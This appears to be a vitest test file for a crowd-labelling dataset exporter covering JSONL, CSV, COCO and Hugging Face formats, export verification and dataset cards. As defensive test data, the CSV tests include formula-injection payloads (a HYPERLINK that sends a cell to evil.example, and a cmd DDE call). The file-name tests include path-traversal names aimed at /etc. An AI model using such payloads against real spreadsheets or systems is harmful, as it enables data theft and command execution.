import { describe, expect, it } from "vitest";
import { unzipSync, strFromU8 } from "fflate";
import { bytesToHex, getAddress, hexToBytes, keccak256, toHex, type Address } from "viem";
import { syntheticImage, syntheticSource } from "../../test/syntheticSource.ts";
import { exportJsonl } from "./exportJsonl.ts";
import { exportCsv, csvColumns, csvField, csvText } from "./exportCsv.ts";
import { exportCoco } from "./exportCoco.ts";
import { classFolders, exportHfImagefolder, ImageFetchError } from "./exportHfImagefolder.ts";
import { imageFileName, safeName } from "./fileNames.ts";
import { aggregateDataset } from "./aggregateDataset.ts";
import { datasetStats } from "./datasetStats.ts";
import { datasetCard, sizeCategory } from "./datasetCard.ts";
import { exportDataset } from "./exportDataset.ts";
import type { DatasetSource } from "./DatasetSource.ts";
import { verifyExport } from "./verifyExport.ts";
import { parseCsv } from "./parseCsv.ts";
import { itemRecords } from "./itemRecords.ts";

const { source, truth } = await syntheticSource({ itemCount: 120, batchSize: 50, seed: 2 });
const aggregation = aggregateDataset(source);

async function collect(iterable: AsyncIterable<string>): Promise<string> {
  let out = "";
  for await (const chunk of iterable) out += chunk;
  return out;
}

async function csvRows(text: string): Promise<string[][]> {
  const rows: string[][] = [];
  for await (const row of parseCsv([text])) rows.push(row);
  return rows;
}

/** Every file of an HF export of `from`, unzipped. */
async function hfFiles(from: DatasetSource, options: { includeCannotLabel?: boolean } = {}): Promise<Record<string, Uint8Array>> {
  const fetchImage = async (cid: string) => syntheticImage(from.manifest.items.findIndex((item) => item.cid === cid));
  const parts: Uint8Array[] = [];
  for await (const part of exportHfImagefolder(from, { fetchImage, ...options })) parts.push(part);
  const zipped = new Uint8Array(parts.reduce((n, p) => n + p.length, 0));
  let offset = 0;
  for (const p of parts) zipped.set(p, (offset += p.length) - p.length);
  return unzipSync(zipped);
}

/** Class folder -> the consensus labels of the images in it, from an HF export's metadata.jsonl. */
function labelsByFolder(files: Record<string, Uint8Array>): Record<string, number[]> {
  const out: Record<string, number[]> = {};
  for (const line of strFromU8(files["train/metadata.jsonl"]!).trimEnd().split("\n")) {
    const { file_name, label } = JSON.parse(line) as { file_name: string; label: number };
    const folder = file_name.split("/")[0]!;
    out[folder] = [...new Set([...(out[folder] ?? []), label])].sort();
  }
  return out;
}

describe("itemRecords", () => {
  it("follows the contract's consensus and carries provenance", () => {
    const records = [...itemRecords(source, aggregation)];
    expect(records).toHaveLength(120);
    expect(records.map((r) => r.index)).toEqual(records.map((_, i) => i));
    const resolved = records.filter((r) => r.resolved);
    expect(resolved.length).toBeGreaterThan(100);
    const correct = resolved.filter((r) => r.consensus === truth[r.index]).length;
    expect(correct / resolved.length).toBeGreaterThan(0.9);
    for (const r of records) {
      expect(r.finaliseTx).toMatch(/^0x[0-9a-f]{64}$/);
      if (!r.resolved) expect(r.consensus).toBeNull();
      for (const v of r.votes) expect(v.batchId).toBe(r.batchId);
    }
    // an item resolved in round 1 names the round-1 finalisation
    const batch = source.batches.find((b) => b.finalisations.length === 2 && b.finalisations[1]!.newlyResolvedMask !== 0n)!;
    const offset = batch.finalisations[1]!.newlyResolvedMask.toString(2).split("").reverse().indexOf("1");
    expect(records[batch.batchId * 50 + offset]!.finaliseTx).toBe(batch.finalisations[1]!.tx);
  });
});

describe("exportJsonl", () => {
  it("writes one provenance line per item and reports progress", async () => {
    const progress: number[] = [];
    const text = await collect(exportJsonl(source, { aggregation, onProgress: (p) => progress.push(p.done), progressEvery: 50 }));
    const lines = text.trimEnd().split("\n").map((l) => JSON.parse(l));
    expect(lines).toHaveLength(120);
    expect(progress).toEqual([50, 100, 120]);
    const first = lines[0];
    expect(Object.keys(first)).toEqual(["index", "cid", "filename", "mediaType", "width", "height", "batchId", "resolved", "consensus", "dawidSkene", "votes", "finalise"]);
    expect(first.cid).toBe(source.manifest.items[0]!.cid);
    expect(first.filename).toBe("img-0.png");
    if (first.resolved) expect(first.consensus.name).toBe(source.manifest.classes[first.consensus.classId]?.name ?? "cannot_label");
    expect(Object.keys(first.votes[0])).toEqual(["annotator", "label", "labelName", "batchId", "slot", "round", "revealTx"]);
    expect(first.dawidSkene.posterior).toBeGreaterThan(0);
    expect(first.finalise.block).toMatch(/^\d+$/);
  });
});

describe("exportCsv", () => {
  it("writes a header and one parseable row per item", async () => {
    const text = await collect(exportCsv(source, { aggregation }));
    const rows: string[][] = [];
    for await (const row of parseCsv([text])) rows.push(row);
    expect(rows[0]).toEqual([...csvColumns]);
    expect(rows).toHaveLength(121);
    expect(rows[1]![1]).toBe(source.manifest.items[0]!.cid);
  });

  it("quotes fields with commas, quotes and newlines", async () => {
    const tricky = structuredClone(source);
    tricky.manifest.items[0]!.filename = 'a "b",\nc.png';
    const text = await collect(exportCsv(tricky));
    const rows: string[][] = [];
    for await (const row of parseCsv([text])) rows.push(row);
    expect(rows[1]![2]).toBe('a "b",\nc.png');
    expect(rows).toHaveLength(121);
  });

  it("writes formula-like manifest text with a leading apostrophe so spreadsheets show it as text", async () => {
    expect(["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "'quoted", "cat", "a=b"].map(csvField)).toEqual([
      "'=1+1",
      "'+1",
      "'-1",
      "'@SUM(A1)",
      "'\tx",
      '"\'\rx"',
      "''quoted",
      "cat",
      "a=b",
    ]);
    expect([-1, 0.5, true, null].map(csvField)).toEqual(["-1", "0.5", "true", ""]);
    expect(["'=1+1", "''quoted", "cat", ""].map(csvText)).toEqual(["=1+1", "'quoted", "cat", ""]);

    const hostile = structuredClone(source);
    hostile.manifest.items[0]!.filename = '=HYPERLINK("http://evil.example/?"&A1,"open")';
    hostile.manifest.items[1]!.filename = "+cmd|' /C calc'!A0";
    hostile.manifest.classes[0]!.name = "@SUM(1+1)";
    const text = await collect(exportCsv(hostile));
    const rows = await csvRows(text);
    expect(rows[1]![2]).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"open")`);
    expect(rows[2]![2]).toBe("'+cmd|' /C calc'!A0");
    const catRow = rows.find((r) => r[8] === "0")!;
    expect(catRow[9]).toBe("'@SUM(1+1)");
    const cells = rows.slice(1).flatMap((r) => [r[2]!, r[9]!]);
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    // the class name is checked against the chain-derived one: the apostrophe must not read as a change
    expect(await verifyExport(hostile, text, { format: "csv" })).toEqual({ ok: true, checked: 120, missing: [], mismatchCount: 0, mismatches: [] });
  });
});

describe("exportCoco", () => {
  it("writes images, categories and one annotation per resolved item", async () => {
    const coco = JSON.parse(await collect(exportCoco(source, { aggregation })));
    expect(coco.images).toHaveLength(120);
    expect(coco.categories.map((c: { name: string }) => c.name)).toEqual(["cat", "dog", "bird", "cannot_label"]);
    const resolved = [...itemRecords(source)].filter((r) => r.resolved);
    expect(coco.annotations).toHaveLength(resolved.length);
    expect(coco.annotations[0].image_id).toBe(resolved[0]!.index);
    expect(coco.annotations[0].category_id).toBe(resolved[0]!.consensus);
    expect(coco.info.crowdlabel.taskId).toBe("1");
  });

  it("gives every image a unique file_name with no directories, the name the HF export gives it, and keeps the original", async () => {
    const named = structuredClone(source);
    ["IMG_0001.jpg", "IMG_0001.jpg", "../../../etc/cron.d/x.png", "img_0001.JPG"].forEach((name, i) => (named.manifest.items[i]!.filename = name));
    delete named.manifest.items[4]!.filename;
    const coco = JSON.parse(await collect(exportCoco(named))) as { images: { id: number; file_name: string; original_file_name?: string; cid: string }[] };
    expect(coco.images.slice(0, 5).map((i) => [i.file_name, i.original_file_name])).toEqual([
      ["000000_IMG_0001.png", "IMG_0001.jpg"],
      ["000001_IMG_0001.png", "IMG_0001.jpg"],
      ["000002_etc_cron.d_x.png", "../../../etc/cron.d/x.png"],
      ["000003_img_0001.png", "img_0001.JPG"],
      [`000004_${named.manifest.items[4]!.cid}.png`, undefined],
    ]);
    expect(new Set(coco.images.map((i) => i.file_name.toLowerCase())).size).toBe(coco.images.length);
    const records = [...itemRecords(named)];
    expect(coco.images.map((i) => i.file_name)).toEqual(records.map(imageFileName));
  });
});

describe("exportHfImagefolder", () => {
  it("zips class folders, metadata.jsonl and a dataset card, fetching images a few at a time", async () => {
    let inFlight = 0;
    let maxInFlight = 0;
    const fetchImage = async (cid: string) => {
      inFlight++;
      maxInFlight = Math.max(maxInFlight, inFlight);
      await new Promise((r) => setTimeout(r, 1));
      inFlight--;
      const index = source.manifest.items.findIndex((item) => item.cid === cid);
      return syntheticImage(index);
    };
    const parts: Uint8Array[] = [];
    const progress: string[] = [];
    for await (const part of exportHfImagefolder(source, { fetchImage, aggregation, concurrency: 3, onProgress: (p) => progress.push(p.phase) }))
      parts.push(part);
    const zipped = new Uint8Array(parts.reduce((n, p) => n + p.length, 0));
    let offset = 0;
    for (const p of parts) zipped.set(p, (offset += p.length) - p.length);
    const files = unzipSync(zipped);
    const names = Object.keys(files);
    const stats = datasetStats(source, aggregation);
    const shipped = stats.classCounts.slice(0, 3).reduce((n, c) => n + c.count, 0);
    expect(names.filter((n) => n.startsWith("train/") && !n.endsWith("metadata.jsonl"))).toHaveLength(shipped);
    expect(names).toContain("README.md");
    expect(maxInFlight).toBeLessThanOrEqual(3);
    expect(progress.at(-1)).toBe("done");
    const metadata = strFromU8(files["train/metadata.jsonl"]!).trimEnd().split("\n").map((l) => JSON.parse(l));
    expect(metadata).toHaveLength(shipped);
    const m = metadata[0];
    expect(m.file_name).toMatch(/^(cat|dog|bird)\/\d{6}_img-\d+\.png$/);
    expect(files[`train/${m.file_name}`]).toEqual(syntheticImage(m.index));
    const card = strFromU8(files["README.md"]!);
    expect(card).toContain("# Synthetic pets");
    expect(card).toContain("| 0 | cat |");
    expect(card).toContain(`Chain id: 31337`);
    expect(card).toContain(`Items: 120; resolved (consensus reached): ${stats.resolvedCount}`);
  });

  it("fails with the fetch error, naming the image, when an image cannot be verified", async () => {
    const fetchImage = async () => {
      throw new Error("CID mismatch");
    };
    const error = await (async () => {
      for await (const _ of exportHfImagefolder(source, { fetchImage })) void _;
    })().catch((e: unknown) => e);
    const first = [...itemRecords(source)].find((r) => r.consensus !== null && r.consensus !== 3)!;
    expect(error).toBeInstanceOf(ImageFetchError);
    expect(error).toMatchObject({ cid: first.cid, index: first.index, shortMessage: `Image ${first.cid} (item ${first.index}) could not be fetched for the export.`, details: "CID mismatch" });
  });

  it("gives every label its own folder, even when sanitised names or their suffixes collide", () => {
    expect(classFolders(["cat", "dog"])).toEqual(["cat", "dog", "cannot_label"]);
    expect(classFolders(["dog", "dog_2", "_dog"])).toEqual(["dog", "dog_2", "dog_2_2", "cannot_label"]);
    expect(classFolders(["Dog!", "dog?", "cannot label", "cannot_label_3"])).toEqual(["Dog_", "dog__1", "cannot_label_2", "cannot_label_3", "cannot_label"]);
    expect(classFolders(["cannot label", "x"])).toEqual(["cannot_label_0", "x", "cannot_label"]);
  });

  it("keeps class names of any script as folder names, and never names a folder so that datasets skips it", () => {
    // `datasets` ignores files under a folder whose name starts with "__" (and hidden ones): such a class would vanish.
    expect(classFolders(["кошка", "собака", "Кошка"])).toEqual(["кошка", "собака", "Кошка_2", "cannot_label"]);
    expect(classFolders(["猫", "狗", "café", "ψ-meson"])).toEqual(["猫", "狗", "café", "ψ-meson", "cannot_label"]);
    expect(classFolders(["🐱", "?", "__init__", ".hidden"])).toEqual(["class_0", "class_1", "init__", "hidden", "cannot_label"]);
    for (const folder of classFolders(["🐱", "🐶", "_", "__", "...", "-"])) expect(folder).not.toMatch(/^[._]/);
  });

  it("folder and file names that Windows or macOS would merge, refuse or find too long are changed", () => {
    // Windows drops a trailing dot ("misc." is "misc"), refuses device names, and like macOS folds ς and σ alike.
    expect(classFolders(["misc.", "misc", "CON", "aux.txt", "οδος", "οδοσ"])).toEqual(["misc", "misc_1", "CON_", "aux.txt_", "οδος", "οδοσ_5", "cannot_label"]);
    // 80 four-byte letters were 320 bytes: past the 255 a file name may take.
    const long = safeName("𝐀".repeat(80));
    expect(new TextEncoder().encode(long).length).toBeLessThanOrEqual(200);
    expect(long).toBe("𝐀".repeat(50));
    expect(safeName("a".repeat(100))).toBe("a".repeat(80));
    // Windows also keeps COM¹–³ and LPT¹–³ for devices.
    expect(classFolders(["COM¹", "lpt³.txt", "COM4", "COM¹x"])).toEqual(["COM¹_", "lpt³.txt_", "COM4_", "COM¹x", "cannot_label"]);
  });

  it("an image's file name loses only a real extension", () => {
    const name = (filename: string) => imageFileName({ index: 0, filename, cid: "bafy", mediaType: "image/jpeg" });
    expect(name("IMG_1.JPEG")).toBe("000000_IMG_1.jpg");
    expect(name("photos.v2/IMG_1")).toBe("000000_photos.v2_IMG_1.jpg");
    expect(name("scan.2024-05-01")).toBe("000000_scan.2024-05-01.jpg");
    expect(name("../../etc/passwd")).toBe("000000_etc_passwd.jpg");
  });

  it("never puts images of two labels in one folder", async () => {
    const collide = structuredClone(source);
    collide.manifest.classes[0]!.name = "dog";
    collide.manifest.classes[1]!.name = "dog_2";
    collide.manifest.classes[2]!.name = "_dog";
    const named = (await syntheticSource({ itemCount: 120, batchSize: 50, classCount: 2, seed: 5 })).source;
    named.manifest.classes[0]!.name = "cannot label";
    named.manifest.classes[1]!.name = "x";
    // one resolved item answered "cannot label" (label 2)
    const batch = named.batches[0]!;
    const offset = [...itemRecords(named)].find((r) => r.resolved && r.batchId === 0)!.index;
    const consensus = hexToBytes(batch.consensus);
    consensus[offset] = 2;
    batch.consensus = bytesToHex(consensus);
    const shipped = (s: DatasetSource, cannotLabel: boolean) =>
      [...new Set([...itemRecords(s)].flatMap((r) => (r.consensus === null || (!cannotLabel && r.consensus === s.task.classCount) ? [] : [r.consensus])))].sort();
    expect(labelsByFolder(await hfFiles(collide))).toEqual(Object.fromEntries(shipped(collide, false).map((l) => [["dog", "dog_2", "dog_2_2"][l]!, [l]])));
    expect(shipped(named, true)).toEqual([0, 1, 2]);
    expect(labelsByFolder(await hfFiles(named, { includeCannotLabel: true }))).toEqual({ cannot_label_0: [0], x: [1], cannot_label: [2] });
  });
});

describe("verifyExport", () => {
  it("accepts untouched JSONL and CSV exports", async () => {
    const jsonl = await verifyExport(source, exportJsonl(source, { aggregation }), { format: "jsonl" });
    expect(jsonl).toEqual({ ok: true, checked: 120, missing: [], mismatchCount: 0, mismatches: [] });
    const csv = await verifyExport(source, await collect(exportCsv(source)), { format: "csv" });
    expect(csv.ok).toBe(true);
    expect(csv.checked).toBe(120);
  });

  it("reports a line that is JSON but not an object (null, a number) instead of failing on it", async () => {
    const lines = (await collect(exportJsonl(source, { aggregation }))).trimEnd().split("\n");
    const report = await verifyExport(source, ["null", "42", ...lines.slice(2)].join("\n"), { format: "jsonl" });
    expect(report.ok).toBe(false);
    expect(report.mismatches.slice(0, 2)).toEqual([
      { index: null, field: "line 1", expected: "a JSON object", actual: "null" },
      { index: null, field: "line 2", expected: "a JSON object", actual: "42" },
    ]);
  });

  it("reports votes that are not vote objects, or hashes that are not strings, as mismatches instead of failing on them", async () => {
    const lines = (await collect(exportJsonl(source, { aggregation }))).trimEnd().split("\n").map((l) => JSON.parse(l));
    lines[0].votes = [null];
    lines[1].votes = "x";
    lines[2].votes = lines[2].votes.map((v: object) => ({ ...v, revealTx: 5 }));
    lines[3].finalise = { tx: 7 };
    const report = await verifyExport(source, lines.map((l) => JSON.stringify(l)).join("\n"), { format: "jsonl" });
    expect(report.ok).toBe(false);
    expect(report.missing).toEqual([]);
    expect(report.mismatches.map((m) => [m.index, m.field])).toEqual([
      [0, "votes"],
      [1, "votes"],
      [2, "votes"],
      [3, "finaliseTx"],
    ]);
  });

  it("reports changed consensus, forged votes, duplicates and missing items", async () => {
    const lines = (await collect(exportJsonl(source))).trimEnd().split("\n").map((l) => JSON.parse(l));
    const resolvedLine = lines.find((l) => l.resolved);
    resolvedLine.consensus.classId = (resolvedLine.consensus.classId + 1) % 3;
    lines[5].votes[0].label = (lines[5].votes[0].label + 1) % 3;
    lines[7] = lines[6];
    lines.pop();
    const result = await verifyExport(source, `${lines.map((l) => JSON.stringify(l)).join("\n")}\n`, { format: "jsonl" });
    expect(result.ok).toBe(false);
    expect(result.missing).toEqual([7, 119]);
    expect(result.mismatches).toEqual(
      expect.arrayContaining([
        expect.objectContaining({ index: resolvedLine.index, field: "consensus" }),
        expect.objectContaining({ index: 5, field: "votes" }),
        { index: 6, field: "index", expected: "one line per item", actual: "duplicate" },
        { index: 7, field: "item", expected: "present", actual: "missing" },
      ]),
    );
  });

  it("reports a tampered CSV cell", async () => {
    const text = await collect(exportCsv(source));
    const tampered = text.replace(source.manifest.items[3]!.cid, source.manifest.items[4]!.cid);
    const result = await verifyExport(source, tampered, { format: "csv" });
    expect(result.mismatches).toEqual([{ index: 3, field: "cid", expected: source.manifest.items[3]!.cid, actual: source.manifest.items[4]!.cid }]);
  });
});

describe("datasetCard", () => {
  it("tags the size category the Hugging Face Hub defines for the number of examples", () => {
    const at = [0, 999, 1_000, 99_999, 999_999, 1_000_000, 9_999_999, 10_000_000, 100_000_000, 1e9, 4_294_967_295, 1e10, 1e11, 1e12];
    expect(at.map(sizeCategory)).toEqual([
      "n<1K",
      "n<1K",
      "1K<n<10K",
      "10K<n<100K",
      "100K<n<1M",
      "1M<n<10M",
      "1M<n<10M",
      "10M<n<100M",
      "100M<n<1B",
      "1B<n<10B",
      "1B<n<10B",
      "10B<n<100B",
      "100B<n<1T",
      "n>1T",
    ]);
    const stats = { ...datasetStats(source), itemCount: 2_000_000 };
    expect(datasetCard({ source, stats, recordCount: 2_000_000 })).toContain("size_categories:\n  - 1M<n<10M\n");
  });

  it("writes the title and license as YAML strings with DEL, C1 controls and line separators escaped", () => {
    const titled = { ...source, manifest: { ...source.manifest, title: "Pets\u007f v2\u0085 \u2028: #1 \"best\"" } };
    const card = datasetCard({ source: titled, stats: datasetStats(source), recordCount: 10, license: "cc-by-4.0" });
    const frontMatter = card.split("---\n")[1]!;
    expect(frontMatter).toContain('license: "cc-by-4.0"\n');
    expect(frontMatter).toContain('pretty_name: "Pets\\u007f v2\\u0085 \\u2028: #1 \\"best\\""\n');
    expect(frontMatter).toMatch(/^[\t\n\x20-\x7e]*$/); // nothing a YAML reader refuses or reads as a line break
  });

  it("sizes the HF export by the images it ships, not by the task's items", async () => {
    const { source: partial } = await syntheticSource({ itemCount: 1_200, batchSize: 200, seed: 4 });
    partial.batches = partial.batches.filter((b) => b.batchId >= 3); // batches 0-2 never finalised: at most 600 images
    const files = await hfFiles(partial);
    const images = Object.keys(files).filter((n) => n.startsWith("train/") && n !== "train/metadata.jsonl").length;
    expect(images).toBeLessThan(600);
    expect(strFromU8(files["README.md"]!)).toContain("size_categories:\n  - n<1K\n");
    expect(strFromU8(files["README.md"]!)).toContain("- Items: 1200;");
  });

  it("leaves SVG images out (datasets loads raster images only) and says how many in the card", async () => {
    const withSvg = structuredClone(source);
    const shipped = [...itemRecords(source)].filter((r) => r.consensus !== null && r.consensus !== 3);
    for (const r of shipped.slice(0, 2)) withSvg.manifest.items[r.index]!.mediaType = "image/svg+xml";
    const files = await hfFiles(withSvg);
    const images = Object.keys(files).filter((n) => n.startsWith("train/") && n !== "train/metadata.jsonl");
    expect(images).toHaveLength(shipped.length - 2);
    expect(images.some((n) => n.endsWith(".svg"))).toBe(false);
    expect(strFromU8(files["train/metadata.jsonl"]!).trim().split("\n")).toHaveLength(shipped.length - 2);
    expect(strFromU8(files["README.md"]!)).toContain(
      "- 2 SVG images with consensus are not in this dataset: the `imagefolder` loader reads raster images only. The JSONL, CSV and COCO exports list them by CID.\n",
    );
    expect(strFromU8((await hfFiles(source))["README.md"]!)).not.toContain("SVG");
  });
});

describe("gold in the dataset card", () => {
  it("checks consensus and Dawid-Skene against the revealed gold answers, and says so only once they are revealed", () => {
    const aggregation = aggregateDataset(source);
    // Gold on the first 20 items: the true class, except item 0 where the owner's answer differs from the truth.
    const items = Array.from({ length: 20 }, (_, i) => i);
    const labels = items.map((i) => (i === 0 ? (truth[0]! + 1) % 3 : truth[i]!));
    const withGold: DatasetSource = { ...source, gold: { items, labels } };
    const records = [...itemRecords(source, aggregation)].filter((r) => r.index < 20 && r.votes.length > 0);
    const resolved = records.filter((r) => r.consensus !== null);
    const expected = {
      items: 20,
      labelled: records.length,
      resolved: resolved.length,
      consensusCorrect: resolved.filter((r) => r.consensus === labels[r.index]).length,
      dsCorrect: records.filter((r) => r.dsClass === labels[r.index]).length,
    };
    expect(expected.resolved).toBeGreaterThan(10);
    const stats = datasetStats(withGold, aggregation);
    expect(stats.gold).toEqual(expected);
    expect(datasetStats(withGold).gold?.dsCorrect).toBeNull();
    const card = datasetCard({ source: withGold, stats, recordCount: 100 });
    expect(card).toContain(
      `- Gold: the owner answered 20 images in advance (committed at creation, revealed on chain). Consensus matches ${expected.consensusCorrect} of the ${expected.resolved} resolved (${((expected.consensusCorrect / expected.resolved) * 100).toFixed(1)}%); Dawid-Skene ${expected.dsCorrect} of the ${expected.labelled} labelled.`,
    );
    expect(datasetStats(source, aggregation).gold).toBeNull();
    expect(datasetCard({ source, stats: datasetStats(source, aggregation), recordCount: 100 })).not.toContain("Gold:");
  });
});

describe("address case", () => {
  /** `from` with every address (task and annotators) written by `form`; annotators get letters so case matters. */
  function withAddresses(from: DatasetSource, form: (address: Address) => Address): DatasetSource {
    const lettered = (a: Address) => `0x${keccak256(toHex(a)).slice(26)}` as Address;
    const copy = structuredClone(from);
    copy.task = { ...copy.task, contract: form(copy.task.contract), token: form(copy.task.token), owner: form(copy.task.owner) };
    for (const b of copy.batches) for (const s of b.slots) s.annotator = form(lettered(s.annotator));
    return copy;
  }
  const lower = (a: Address) => a.toLowerCase() as Address;

  it("the indexer's lowercase rows and the chain's checksummed logs export identical bytes", async () => {
    const indexed = withAddresses(source, lower); // as the indexer's database stores them
    const fromChain = withAddresses(source, getAddress); // as readDatasetSource decodes them
    const annotator = indexed.batches[0]!.slots[0]!.annotator;
    expect(annotator).not.toBe(fromChain.batches[0]!.slots[0]!.annotator);
    for (const format of ["jsonl", "csv", "coco"] as const) {
      const [a, b] = await Promise.all([indexed, fromChain].map((s) => collect(exportDataset(s, { format, aggregation }) as AsyncGenerator<string>)));
      expect(a, format).toBe(b);
    }
    const card = (s: DatasetSource) => datasetCard({ source: s, stats: datasetStats(s, aggregation), recordCount: 100 });
    expect(card(indexed)).toBe(card(fromChain));
    // the one canonical form is EIP-55
    const jsonl = JSON.parse((await collect(exportJsonl(indexed))).split("\n")[0]!) as { votes: { annotator: string }[] };
    expect(jsonl.votes[0]!.annotator).toBe(getAddress(annotator));
    const coco = JSON.parse(await collect(exportCoco(indexed))) as { info: { url: string; crowdlabel: { contract: string } } };
    expect(coco.info.url).toBe("crowdlabel://31337/0x5FbDB2315678afecb367f032d93F642f64180aa3/1");
    expect(coco.info.crowdlabel.contract).toBe("0x5FbDB2315678afecb367f032d93F642f64180aa3");
    expect(card(indexed)).toContain("- Reward token: `0xe7f1725E7734CE288F8367e1Bb143E90bb3F0512`; owner `0xf39Fd6e51aad88F6F4ce6aB8827279cffFb92266`");
  });
});
